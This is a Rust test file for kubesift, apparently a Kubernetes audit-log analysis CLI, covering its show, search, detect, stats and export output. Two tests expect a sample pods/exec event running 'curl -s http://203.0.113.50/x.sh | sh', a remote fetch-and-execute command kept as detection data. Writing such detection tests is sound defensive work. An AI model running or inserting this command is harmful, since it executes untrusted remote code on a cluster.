//! The headless twins as an analyst uses them (issue 11, "Headless twins"): `show` names the
//! event's findings and takes an audit-ID prefix, `search`'s table carries audit IDs and
//! keeps commands whole in a pipe, `detect`'s table is coloured on a terminal and carries
//! counts and IDs, `stats` and `rules` carry SHA-256 and ATT&CK, the HTML export lists its
//! inputs, and every error starts with `error:` (a missing required option: exit 2).
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{ks, sample_index, stderr, stdout};

/// The reverse-shell-style download-and-run exec of the sample attack.
const DOWNLOAD_RUN: &str = "37416c1a-b02b-40ed-b881-3e72cd21229a";

fn ok(args: &[&str]) -> String {
    let out = ks(sample_index()).args(args).output().unwrap();
    assert!(out.status.success(), "{args:?}: {}", stderr(&out));
    stdout(&out)
}

fn failed(args: &[&str], code: i32) -> String {
    let out = ks(sample_index()).args(args).output().unwrap();
    assert_eq!(out.status.code(), Some(code), "{args:?}: {}", stderr(&out));
    let err = stderr(&out);
    assert!(err.starts_with("error:"), "{args:?}: {err}");
    err
}

#[test]
fn regression_show_did_not_list_the_findings_of_the_event() {
    let text = ok(&["show", DOWNLOAD_RUN]);
    let (head, _) = text.split_once("raw event:").unwrap();
    let findings = head.split_once("findings:\n").expect(head).1;
    assert!(
        findings.lines().any(|l| l.contains("critical")
            && l.contains("KS-EXEC-DOWNLOAD-RUN")
            && l.contains("Download-and-run")),
        "{findings}"
    );
    let json: serde_json::Value =
        serde_json::from_str(&ok(&["show", DOWNLOAD_RUN, "--format", "json"])).unwrap();
    let rules: Vec<&str> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule_id"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"KS-EXEC-DOWNLOAD-RUN"), "{rules:?}");
}

#[test]
fn regression_show_refused_a_unique_audit_id_prefix() {
    let text = ok(&["show", &DOWNLOAD_RUN[..8]]);
    let line = text
        .lines()
        .find(|l| l.trim_start().starts_with("audit id"));
    assert!(line.is_some_and(|l| l.ends_with(DOWNLOAD_RUN)), "{text}");
}

#[test]
fn show_of_an_ambiguous_prefix_lists_the_candidates() {
    // The sample's audit IDs are random UUIDs: thousands of them start with "3".
    let err = failed(&["show", "3"], 1);
    assert!(err.contains("ambiguous"), "{err}");
    let listed: Vec<&str> = err.lines().skip(1).map(str::trim).collect();
    assert!(listed.len() >= 2, "{err}");
    assert!(listed.iter().all(|id| id.starts_with('3')), "{err}");
}

#[test]
fn regression_show_of_an_unknown_id_did_not_start_with_error() {
    let err = failed(&["show", "no-such-audit-id"], 1);
    assert!(err.contains("no-such-audit-id"), "{err}");
}

#[test]
fn regression_search_table_had_no_audit_id_and_cut_commands_in_a_pipe() {
    // `assert_cmd` reads stdout through a pipe: the table must keep every cell whole.
    let table = ok(&["search", "res:pods/exec", "--limit", "0"]);
    let header = table.lines().next().unwrap();
    assert!(header.ends_with("AUDIT_ID"), "{header}");
    let row = table
        .lines()
        .find(|l| l.contains(DOWNLOAD_RUN))
        .expect("the download-and-run exec is listed with its audit ID");
    assert!(
        row.contains("[sh -c 'curl -s http://203.0.113.50/x.sh | sh']"),
        "{row}"
    );
    assert!(!table.contains('…'), "a cell was cut in a pipe:\n{table}");
}

/// The text without its SGR sequences (`\x1b[…m`).
fn strip_sgr(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\x1b' {
            chars.by_ref().find(|&c| c == 'm');
        } else {
            out.push(c);
        }
    }
    out
}

#[test]
fn regression_detect_table_had_no_colour_on_a_terminal() {
    // CLICOLOR_FORCE stands for a terminal here (stdout is a pipe under test).
    let out = ks(sample_index())
        .arg("detect")
        .env("CLICOLOR_FORCE", "1")
        .env_remove("NO_COLOR")
        .output()
        .unwrap();
    let coloured = stdout(&out);
    let critical = coloured.lines().find(|l| l.contains("critical")).unwrap();
    assert!(
        critical.starts_with("\x1b[1m\x1b[31mcritical\x1b[0m"),
        "{critical:?}"
    );
    // Colour does not move the columns: the table lines up as the plain one does.
    let plain = ok(&["detect"]);
    assert_eq!(strip_sgr(&coloured), plain);
    // NO_COLOR wins over everything; a pipe alone gets none.
    let out = ks(sample_index())
        .arg("detect")
        .env("CLICOLOR_FORCE", "1")
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    assert!(!stdout(&out).contains('\x1b'));
    assert!(!plain.contains('\x1b'));
}

#[test]
fn regression_detect_table_had_no_audit_ids_nor_counts() {
    let table = ok(&["detect"]);
    let header = table.lines().next().unwrap();
    assert!(
        header.contains("COUNT") && header.contains("AUDIT_IDS"),
        "{header}"
    );
    let row = table
        .lines()
        .find(|l| l.contains("KS-EXEC-DOWNLOAD-RUN"))
        .unwrap();
    assert!(row.contains(DOWNLOAD_RUN), "{row}");
    let last = table.lines().last().unwrap();
    assert!(
        last.contains(" findings: ") && last.contains(" critical"),
        "{last}"
    );
}

#[test]
fn regression_stats_table_had_no_sha256_of_its_inputs() {
    let table = ok(&["stats"]);
    let json: serde_json::Value =
        serde_json::from_str(&ok(&["stats", "--format", "json"])).unwrap();
    let inputs = json["inputs"].as_array().unwrap();
    assert!(!inputs.is_empty());
    for input in inputs {
        let sha = input["sha256"].as_str().unwrap();
        assert_eq!(sha.len(), 64);
        let line = table.lines().find(|l| l.contains(sha)).expect(sha);
        assert!(line.ends_with(input["path"].as_str().unwrap()), "{line}");
    }
}

#[test]
fn regression_rules_table_had_no_attack_technique() {
    let table = ok(&["rules"]);
    assert!(table.lines().next().unwrap().contains("ATTACK"), "{table}");
    let anon_write = table
        .lines()
        .find(|l| l.starts_with("KS-ANON-WRITE "))
        .unwrap();
    assert!(anon_write.contains(" T1190 "), "{anon_write}");
}

#[test]
fn regression_html_export_did_not_list_its_inputs_with_sha256() {
    let html = ok(&["export", "--query", "res:pods/exec", "--format", "html"]);
    let json: serde_json::Value =
        serde_json::from_str(&ok(&["stats", "--format", "json"])).unwrap();
    assert!(html.contains("<h2>Inputs</h2>"), "no inputs section");
    for input in json["inputs"].as_array().unwrap() {
        let sha = input["sha256"].as_str().unwrap();
        assert!(html.contains(sha), "{sha} missing from the HTML export");
    }
}

#[test]
fn regression_export_without_a_format_was_not_a_usage_error() {
    let err = failed(&["export"], 2);
    assert!(err.contains("--format"), "{err}");
    let err = failed(&["export", "-o", "timeline.txt"], 2);
    assert!(err.contains("Usage: kubesift export"), "{err}");
}

#[test]
fn regression_case_without_a_subcommand_printed_help_not_an_error() {
    failed(&["case"], 2);
}

#[test]
fn every_missing_required_argument_is_a_usage_error() {
    for args in [
        &["index"][..],
        &["show"],
        &["case", "add"],
        &["case", "remove"],
        &["case", "tag", "x"],
        &["case", "note", "x"],
        &["case", "title"],
        &["case", "analyst"],
        &["case", "save-filter", "name"],
        &["search", "--since"],
        &["detect", "--min-severity"],
        &["export", "--query"],
        &["rules", "--format"],
        &["stats", "--top"],
    ] {
        failed(args, 2);
    }
}

#[test]
fn regression_a_csv_read_by_head_ended_with_a_broken_pipe_error() {
    // `kubesift detect --format csv | head -1` printed `error: Broken pipe (os error 32)` and
    // exited 1 (the CSV writer hid the closed pipe's kind). A reader that stops early is a
    // normal end: exit 0, nothing on stderr — for every command that writes a lot.
    use std::io::{BufRead, BufReader};
    use std::process::Stdio;
    for args in [
        &["search", "*", "--limit", "0", "--format", "csv"][..],
        &["export", "--query", "*", "--format", "csv"],
        &["export", "--detections", "--format", "csv"],
        &["detect", "--format", "csv"],
        &["search", "*", "--limit", "0"],
    ] {
        let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("kubesift"))
            .arg("--index")
            .arg(sample_index())
            .args(args)
            .env_remove("KUBESIFT_INDEX")
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut first = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut first)
            .unwrap();
        // The pipe is closed here, as `head -1` closes it.
        let out = child.wait_with_output().unwrap();
        let err = stderr(&out);
        assert!(!first.is_empty(), "{args:?}");
        assert!(
            out.status.success() && !err.contains("error"),
            "{args:?}: {:?} {err}",
            out.status
        );
    }
}

#[test]
fn regression_detect_and_incidents_tables_cut_cells_in_a_pipe() {
    // `kubesift detect | cat` cut SUMMARY at 90 characters and `incidents` its titles at 60:
    // only a terminal gets cut cells (as `search` does); a pipe gets every cell whole.
    let findings: serde_json::Value =
        serde_json::from_str(&ok(&["detect", "--format", "json"])).unwrap();
    let longest = findings
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["summary"].as_str().unwrap())
        .max_by_key(|s| s.len())
        .unwrap();
    assert!(longest.len() > 90);
    let table = ok(&["detect"]);
    assert!(table.contains(longest), "{longest}");
    let incidents: serde_json::Value =
        serde_json::from_str(&ok(&["incidents", "--format", "json"])).unwrap();
    let title = incidents[0]["title"].as_str().unwrap();
    assert!(title.len() > 60);
    assert!(ok(&["incidents"]).contains(title), "{title}");
}

#[test]
fn regression_a_query_naming_no_field_matched_nothing_silently() {
    let out = ks(sample_index())
        .args(["search", "--count", "status_code:403"])
        .output()
        .unwrap();
    assert!(out.status.success());
    assert_eq!(stdout(&out).trim(), "0");
    assert!(
        stderr(&out).contains(
            "note: `status_code:403` was searched as words: `status_code` is not a field"
        ),
        "{}",
        stderr(&out)
    );
    // The audit Event's JSON paths are field names.
    let by_path = ok(&["search", "--count", "responseStatus.code:403"]);
    let by_name = ok(&["search", "--count", "code:403"]);
    assert_eq!(by_path, by_name);
    assert_ne!(by_path.trim(), "0");
}

#[test]
fn regression_a_cluster_wide_secret_list_named_one_client_of_two() {
    // shop:web listed every secret with python-requests, then with kubectl: the finding
    // said "(client `kubectl`)".
    let jsonl = ok(&["detect", "--format", "jsonl"]);
    let f: serde_json::Value = jsonl
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|f| {
            f["rule_id"] == "KS-SECRET-CLUSTER-WIDE-LIST"
                && f["account"] == "system:serviceaccount:shop:web"
        })
        .unwrap();
    let summary = f["summary"].as_str().unwrap();
    assert!(
        summary.contains("`kubectl`") && summary.contains("`python-requests`"),
        "{summary}"
    );
}

#[test]
fn regression_case_list_without_an_index_printed_an_empty_table() {
    let tmp = tempfile::tempdir().unwrap();
    let out = ks(&tmp.path().join("none"))
        .args(["case", "list"])
        .env_remove("KUBESIFT_CASE")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stderr(&out).starts_with("error: no index at "),
        "{}",
        stderr(&out)
    );
    assert!(stdout(&out).is_empty());
}

#[test]
fn regression_access_of_an_unknown_subject_printed_empty_sections_alone() {
    let out = ks(sample_index())
        .args(["access", "nobody@example.com"])
        .output()
        .unwrap();
    assert!(out.status.success());
    assert!(
        stderr(&out).contains("no binding naming that subject and no request of it"),
        "{}",
        stderr(&out)
    );
    let known = ks(sample_index())
        .args(["access", "system:serviceaccount:shop:web"])
        .output()
        .unwrap();
    assert!(stderr(&known).is_empty(), "{}", stderr(&known));
}

#[test]
fn regression_search_put_a_non_resource_path_under_namespace_name() {
    let csv = ok(&[
        "search",
        "user:system:anonymous AND path:/readyz",
        "--limit",
        "1",
        "--format",
        "csv",
    ]);
    let mut lines = csv.lines();
    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
    let row: Vec<&str> = lines.next().unwrap().split(',').collect();
    let col = |name: &str| row[header.iter().position(|h| *h == name).unwrap()];
    assert_eq!(col("resource"), "/readyz", "{csv}");
    assert_eq!(col("namespace/name"), "", "{csv}");
}

#[test]
fn regression_a_missing_input_printed_a_summary_of_zeros() {
    let tmp = tempfile::tempdir().unwrap();
    let out = ks(&tmp.path().join("idx"))
        .args(["index", tmp.path().join("nonexist.log").to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.starts_with("error: cannot read "), "{err}");
    assert!(
        err.contains("nothing indexed") && !err.contains("indexed: 0 files"),
        "{err}"
    );
}

#[test]
fn regression_show_labelled_the_decoded_uri_as_the_logged_one() {
    let text = ok(&["show", DOWNLOAD_RUN]);
    let line = |label: &str| {
        text.lines()
            .find(|l| l.trim_start().starts_with(label))
            .unwrap_or_else(|| panic!("no {label} in {text}"))
            .to_owned()
    };
    assert!(line("uri ").contains("%2F"), "as logged: {text}");
    assert!(
        line("uri decoded").contains("curl -s http://203.0.113.50/x.sh | sh"),
        "{text}"
    );
}

#[test]
fn regression_a_request_about_no_object_read_get_and_blanks() {
    let text = ok(&["show", "0ee61e2a"]);
    let line = text
        .lines()
        .find(|l| l.trim_start().starts_with("request "))
        .unwrap();
    assert!(line.trim_end().ends_with("get /api"), "{line}");
}
